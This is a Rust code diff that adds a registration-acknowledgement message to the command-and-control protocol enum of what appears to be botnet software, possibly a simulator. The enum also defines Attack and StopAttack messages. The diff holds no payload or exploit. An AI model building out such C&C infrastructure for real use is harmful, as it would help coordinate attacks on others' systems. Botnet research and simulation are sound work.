@@ -145,6 +145,10 @@ pub enum CncMessage {
         /// Version of the bot binary.
         version: u32,
     },
+    /// C&C → bot: registration accepted. Until a bot sees this it cannot
+    /// assume the C&C is functional — a TCP connect alone also succeeds
+    /// against a half-recovered host whose control plane is still down.
+    RegisterAck,
     /// Bot → C&C: keep-alive.
     Ping,
     /// C&C → bot: keep-alive answer.
@@ -160,6 +164,7 @@ impl CncMessage {
     pub fn wire_size(&self) -> u32 {
         match self {
             CncMessage::Register { arch, .. } => 16 + arch.len() as u32,
+            CncMessage::RegisterAck => 2,
             CncMessage::Ping | CncMessage::Pong => 2,
             CncMessage::Attack(_) => 32,
             CncMessage::StopAttack => 4,
